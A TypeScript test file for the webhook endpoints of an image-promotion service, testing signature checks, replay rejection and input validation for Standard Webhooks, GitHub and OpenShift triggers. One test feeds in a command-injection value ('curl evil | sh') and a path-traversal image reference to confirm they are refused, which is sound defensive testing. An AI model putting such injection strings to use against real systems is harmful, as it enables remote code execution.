import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { TriggerErrorCode } from '../../api/trigger-error.ts';
import { FerryError } from '../../errors/ferry-error.ts';
import { PromotionErrorCode } from '../promote/promotion-error.ts';
import { signGithubPayload } from '../triggers/github-signature.ts';
import { HttpErrorCode } from './errors.ts';
import {
  acceptedView,
  buildTestApp,
  COMMIT,
  newDeliveryId,
  PROD_REGISTRY,
  SECRETS,
  SEED_BODY,
  standardWebhook,
  type TestApp,
  testConfig,
  triggerBody,
} from './http-fixture.ts';

let t: TestApp;

before(async () => {
  t = await buildTestApp();
});

after(async () => {
  await t.app.close();
});

function postStandard(request: { headers: Record<string, string>; payload: string }) {
  return t.app.inject({
    method: 'POST',
    url: '/hooks/standard',
    headers: request.headers,
    payload: request.payload,
  });
}

function assertRefused(
  response: { statusCode: number; json(): unknown; body: string },
  status: number,
  code: string,
): { code: string; message: string; fields?: string[] } {
  assert.equal(response.statusCode, status, response.body);
  const body = response.json() as { code: string; message: string; fields?: string[] };
  assert.equal(body.code, code, response.body);
  return body;
}

/** Runs `fn` and asserts that `accept` was not called meanwhile. */
async function withoutAccept(fn: () => Promise<void>): Promise<void> {
  const before = t.service.callsTo('accept').length;
  await fn();
  assert.equal(t.service.callsTo('accept').length, before, 'accept must not be called');
}

describe('POST /hooks/standard (Standard Webhooks, what `ferry trigger` sends)', () => {
  test('a signed request is accepted: 202 {promotion, url}, the request carries the webhook id', async () => {
    const request = standardWebhook(triggerBody());
    const response = await postStandard(request);
    assert.equal(response.statusCode, 202, response.body);
    const body = response.json();
    assert.equal(body.created, true);
    assert.equal(body.url, `https://ferry.example.com/api/v1/promotions/${body.promotion.id}`);
    for (const key of ['id', 'status', 'reason', 'destination', 'resultDigest'])
      assert.ok(key in body.promotion, key);
    assert.equal(body.promotion.destination.registry, PROD_REGISTRY);
    const [call] = t.service.callsTo('accept').slice(-1);
    assert.deepEqual(acceptedView(call), [
      {
        // No `from` was sent: the rule that matched decided the source environment.
        rule: 'team-a',
        source: 'nonprod:team-a/app',
        destination: 'prod:team-a/app',
        tag: COMMIT,
        trigger: {
          kind: 'standard-webhook',
          deliveryId: request.headers['webhook-id'],
          actor: 'standard-webhooks#1',
        },
      },
      { name: 'standard-webhooks#1', kind: 'webhook' },
    ]);
  });

  test('a replayed webhook id is 409, creates nothing, and carries the promotion it created', async () => {
    const request = standardWebhook(triggerBody({ tag: 'replay1' }));
    const first = await postStandard(request);
    assert.equal(first.statusCode, 202);
    const promotions = t.service.promotions.size;
    const replay = assertRefused(
      await postStandard(request),
      409,
      TriggerErrorCode.DuplicateDelivery,
    ) as unknown as {
      promotion: { id: string };
      url: string;
      created: boolean;
    };
    assert.equal(replay.promotion.id, first.json().promotion.id);
    assert.equal(replay.url, first.json().url);
    assert.equal(replay.created, false);
    // The same id re-signed with a fresh timestamp is still the same delivery.
    const id = request.headers['webhook-id'];
    const resigned = standardWebhook(triggerBody({ tag: 'replay1' }), { id });
    assertRefused(await postStandard(resigned), 409, TriggerErrorCode.DuplicateDelivery);
    assert.equal(t.service.promotions.size, promotions);
  });

  test('a delivery whose acceptance failed can be retried with the same id', async () => {
    const request = standardWebhook(triggerBody({ tag: 'retry1' }));
    t.service.failNext(
      'accept',
      new FerryError('FERRY_E_NETWORK', 'registry unreachable', { temporary: true }),
    );
    assertRefused(await postStandard(request), 503, HttpErrorCode.Unavailable);
    const retry = await postStandard(request);
    assert.equal(retry.statusCode, 202, retry.body);
  });

  test('bad signature, stale or future timestamp, missing headers: refused before the body is read', async () => {
    await withoutAccept(async () => {
      const wrongSecret = standardWebhook(triggerBody(), { secret: 'whsec_d3Jvbmctc2VjcmV0' });
      assertRefused(await postStandard(wrongSecret), 401, TriggerErrorCode.BadSignature);

      const tampered = standardWebhook(triggerBody());
      const changed = { ...tampered, payload: tampered.payload.replace('team-a/app', 'team-a/evil') };
      assertRefused(await postStandard(changed), 401, TriggerErrorCode.BadSignature);

      const now = Math.floor(Date.now() / 1000);
      const stale = assertRefused(
        await postStandard(standardWebhook(triggerBody(), { timestamp: now - 600 })),
        401,
        TriggerErrorCode.StaleTimestamp,
      );
      assert.match(stale.message, /in the past/);
      assertRefused(
        await postStandard(standardWebhook(triggerBody(), { timestamp: now + 600 })),
        401,
        TriggerErrorCode.StaleTimestamp,
      );

      const { 'webhook-id': _id, ...noId } = standardWebhook(triggerBody()).headers;
      assertRefused(await postStandard({ headers: noId, payload: '{}' }), 400, TriggerErrorCode.BadHeader);

      // Unauthenticated garbage is refused for its signature, not parsed.
      const garbage = standardWebhook('{"type": ');
      assertRefused(
        await postStandard({
          headers: { ...garbage.headers, 'webhook-signature': 'v1,AAAA' },
          payload: garbage.payload,
        }),
        401,
        TriggerErrorCode.BadSignature,
      );
    });
  });

  test('oversized, malformed, wrong content type, bad reference, unknown field, no rule: 4xx, no accept', async () => {
    await withoutAccept(async () => {
      const big = standardWebhook({ ...triggerBody(), pad: 'x'.repeat(65 * 1024) });
      assertRefused(await postStandard(big), 413, TriggerErrorCode.BodyTooLarge);

      const malformed = assertRefused(
        await postStandard(standardWebhook('{"type": "promotion.requested",')),
        400,
        TriggerErrorCode.MalformedBody,
      );
      assert.match(malformed.message, /line 1, column \d+/);

      assertRefused(
        await postStandard(standardWebhook('type: promotion.requested', { contentType: 'application/yaml' })),
        415,
        TriggerErrorCode.UnsupportedMediaType,
      );
      const badRef = assertRefused(
        await postStandard(standardWebhook(triggerBody({ image: 'Team-A/../app' }))),
        400,
        TriggerErrorCode.InvalidBody,
      );
      assert.deepEqual(badRef.fields, ['data.image']);
      assertRefused(
        await postStandard(standardWebhook(triggerBody({ tag: '-bad' }))),
        400,
        TriggerErrorCode.InvalidBody,
      );
      assertRefused(
        await postStandard(standardWebhook({ ...triggerBody(), extra: 1 })),
        400,
        TriggerErrorCode.InvalidBody,
      );
      const noRule = assertRefused(
        await postStandard(standardWebhook(triggerBody({ image: 'team-z/app' }))),
        404,
        PromotionErrorCode.NoRule,
      );
      assert.match(noRule.message, /team-z\/app/);
      assertRefused(
        await postStandard(standardWebhook(triggerBody({ to: 'staging' }))),
        404,
        PromotionErrorCode.NoRule,
      );
    });
  });

  test('a refused request leaves its webhook id unused', async () => {
    const id = newDeliveryId();
    assertRefused(
      await postStandard(standardWebhook(triggerBody({ image: 'team-z/app' }), { id })),
      404,
      PromotionErrorCode.NoRule,
    );
    assert.equal(
      (await postStandard(standardWebhook(triggerBody({ tag: 'fixed1' }), { id }))).statusCode,
      202,
    );
  });
});

describe('POST /hooks/github', () => {
  function postGithub(body: string, headers: Record<string, string>) {
    return t.app.inject({
      method: 'POST',
      url: '/hooks/github',
      headers: { 'content-type': 'application/json', ...headers },
      payload: body,
    });
  }

  test('X-Hub-Signature-256 authenticates the same body; X-GitHub-Delivery is the delivery id', async () => {
    const body = JSON.stringify(triggerBody({ tag: 'gh1' }));
    const delivery = newDeliveryId('gh');
    const headers = {
      'x-hub-signature-256': signGithubPayload(SECRETS.github, body),
      'x-github-delivery': delivery,
    };
    const response = await postGithub(body, headers);
    assert.equal(response.statusCode, 202, response.body);
    const [call] = t.service.callsTo('accept').slice(-1);
    assert.deepEqual(acceptedView(call)[0].trigger, {
      kind: 'github',
      deliveryId: delivery,
      actor: 'github#1',
    });
    assertRefused(await postGithub(body, headers), 409, TriggerErrorCode.DuplicateDelivery);
    await withoutAccept(async () => {
      assertRefused(
        await postGithub(body, { 'x-hub-signature-256': signGithubPayload('other', body) }),
        401,
        TriggerErrorCode.BadSignature,
      );
      assertRefused(await postGithub(body, {}), 401, TriggerErrorCode.BadSignature);
      assertRefused(
        await postGithub(body, { ...headers, 'x-github-delivery': 'bad id\u0001' }),
        400,
        TriggerErrorCode.BadHeader,
      );
    });
  });

  test('a signed ping is answered 200', async () => {
    const body = '{"zen":"Keep it logically awesome.","hook_id":1}';
    await withoutAccept(async () => {
      const response = await postGithub(body, {
        'x-hub-signature-256': signGithubPayload(SECRETS.github, body),
        'x-github-event': 'ping',
      });
      assert.equal(response.statusCode, 200);
    });
  });
});

describe('OpenShift generic webhook', () => {
  const SHORT = `/hooks/openshift/${SECRETS.openshift}/generic`;
  const LONG = `/oapi/v1/namespaces/myproject-prod/buildconfigs/production-pipeline/webhooks/${SECRETS.openshift}/generic`;

  const EXPECTED = {
    rule: 'seed',
    source: 'nonprod:myproject-dev/myapp',
    destination: 'prod:myproject-prod/myapp',
    tag: COMMIT,
    gitCommit: COMMIT,
  };

  function postOpenShift(url: string, payload: string, contentType = 'application/json') {
    return t.app.inject({ method: 'POST', url, headers: { 'content-type': contentType }, payload });
  }

  test("the seed's exact body reaches accept with the right request, on both URL shapes", async () => {
    for (const [url, actor] of [
      [SHORT, 'openshift'],
      [LONG, 'openshift:myproject-prod/production-pipeline'],
    ] as const) {
      const response = await postOpenShift(url, SEED_BODY);
      assert.ok(response.statusCode === 202 || response.statusCode === 200, response.body);
      assert.equal(response.json().promotion.rule, 'seed');
      const [call] = t.service.callsTo('accept').slice(-1);
      assert.deepEqual(acceptedView(call), [
        { ...EXPECTED, trigger: { kind: 'openshift', actor } },
        { name: actor, kind: 'webhook' },
      ]);
    }
  });

  test('the OpenShift-documented YAML list shape is accepted too', async () => {
    const yaml = [
      'env:',
      ...Object.entries(JSON.parse(SEED_BODY).env as Record<string, string>).flatMap(([name, value]) => [
        `  - name: ${name}`,
        `    value: "${name === 'GIT_COMMIT' ? 'abcdef1' : value}"`,
      ]),
    ].join('\n');
    const response = await postOpenShift(SHORT, yaml, 'application/yaml');
    assert.equal(response.statusCode, 202, response.body);
  });

  test('a wrong secret is 401 on both shapes, before the body is looked at', async () => {
    await withoutAccept(async () => {
      for (const url of [
        SHORT.replace(SECRETS.openshift, 'wrong'),
        LONG.replace(SECRETS.openshift, 'wrong'),
      ]) {
        const response = await postOpenShift(url, '{not json');
        const body = assertRefused(response, 401, TriggerErrorCode.Unauthorized);
        assert.doesNotMatch(response.body, /wrong|os-secret/);
        assert.deepEqual(body.fields, ['secret']);
      }
      assert.equal(
        (await postOpenShift(LONG.replace('myproject-prod', 'My_Project'), SEED_BODY)).statusCode,
        404,
      );
    });
  });

  test('missing values are a 400 naming them; malformed JSON/YAML and bad references are 400', async () => {
    await withoutAccept(async () => {
      const missing = assertRefused(
        await postOpenShift(SHORT, '{"env":{"IMAGE_NAME":"myapp","GIT_COMMIT":""}}'),
        400,
        TriggerErrorCode.MissingValues,
      );
      assert.deepEqual(missing.fields, [
        'NON_PROD_REGISTRY',
        'PROD_REGISTRY',
        'NON_PROD_PROJECT_NAME',
        'PROD_PROJECT_NAME',
        'GIT_COMMIT',
      ]);
      assertRefused(await postOpenShift(SHORT, '{"env": {'), 400, TriggerErrorCode.MalformedBody);
      const yaml = assertRefused(
        await postOpenShift(SHORT, 'env:\n  - name: [\n', 'application/yaml'),
        400,
        TriggerErrorCode.MalformedBody,
      );
      assert.match(yaml.message, /not valid YAML at line/);
      const injected = SEED_BODY.replace('"myapp"', '"myapp; curl evil | sh"');
      assertRefused(await postOpenShift(SHORT, injected), 400, TriggerErrorCode.InvalidBody);
      const noRule = SEED_BODY.replace('"myproject-prod"', '"other-prod"');
      assertRefused(await postOpenShift(SHORT, noRule), 404, PromotionErrorCode.NoRule);
      assertRefused(
        await postOpenShift(SHORT, SEED_BODY, 'application/x-www-form-urlencoded'),
        415,
        TriggerErrorCode.UnsupportedMediaType,
      );
    });
  });
});

describe('server-side misconfiguration', () => {
  test('an unresolvable secret is a 500 that names nothing of the server; the log has the reason', async () => {
    const broken = await buildTestApp({
      config: testConfig((raw) => {
        const triggers = raw['triggers'] as Record<string, unknown>;
        triggers['standardWebhooks'] = { enabled: true, secrets: [{ env: 'FERRY_TEST_UNSET_SECRET' }] };
      }),
    });
    try {
      const response = await broken.app.inject({
        method: 'POST',
        url: '/hooks/standard',
        ...standardWebhook(triggerBody()),
      });
      assert.equal(response.statusCode, 500);
      assert.equal(response.json().code, HttpErrorCode.Internal);
      assert.doesNotMatch(response.body, /FERRY_TEST_UNSET_SECRET/);
      assert.ok(broken.logs.some((line) => line.includes('FERRY_TEST_UNSET_SECRET')));
      assert.equal(broken.service.callsTo('accept').length, 0);
    } finally {
      await broken.app.close();
    }
  });
});

test('a webhook for a rule that does not list its trigger is 403 FERRY_E_PROMOTION_TRIGGER_NOT_ALLOWED, naming both', async () => {
  const apiOnly = await buildTestApp({
    config: testConfig((raw) => {
      const rules = raw['promotions'] as Record<string, unknown>[];
      raw['promotions'] = rules.map((rule) =>
        rule['name'] === 'payments' ? { ...rule, triggers: ['api'] } : rule,
      );
    }),
  });
  try {
    const request = standardWebhook(triggerBody({ image: 'payments/api', tag: 'v1' }));
    const response = await apiOnly.app.inject({ method: 'POST', url: '/hooks/standard', ...request });
    const body = assertRefused(response, 403, 'FERRY_E_PROMOTION_TRIGGER_NOT_ALLOWED');
    assert.match(
      body.message,
      /rule "payments" does not accept the standardWebhooks trigger \(it accepts: api\)/,
    );
    assert.deepEqual(Object.keys(body).sort(), ['code', 'message']);
    assert.equal(apiOnly.service.callsTo('accept').length, 0);
  } finally {
    await apiOnly.app.close();
  }
});

test('disabled triggers are 404', async () => {
  const disabled = await buildTestApp({
    config: testConfig((raw) => {
      raw['triggers'] = {};
    }),
  });
  try {
    for (const url of [
      '/hooks/standard',
      '/hooks/github',
      `/hooks/openshift/${SECRETS.openshift}/generic`,
      `/oapi/v1/namespaces/p/buildconfigs/b/webhooks/${SECRETS.openshift}/generic`,
      '/hooks/registry/distribution',
      '/hooks/registry/harbor',
    ]) {
      const response = await disabled.app.inject({
        method: 'POST',
        url,
        headers: { 'content-type': 'application/json', authorization: SECRETS.distribution },
        payload: SEED_BODY,
      });
      assertRefused(response, 404, HttpErrorCode.NotFound);
    }
  } finally {
    await disabled.app.close();
  }
});
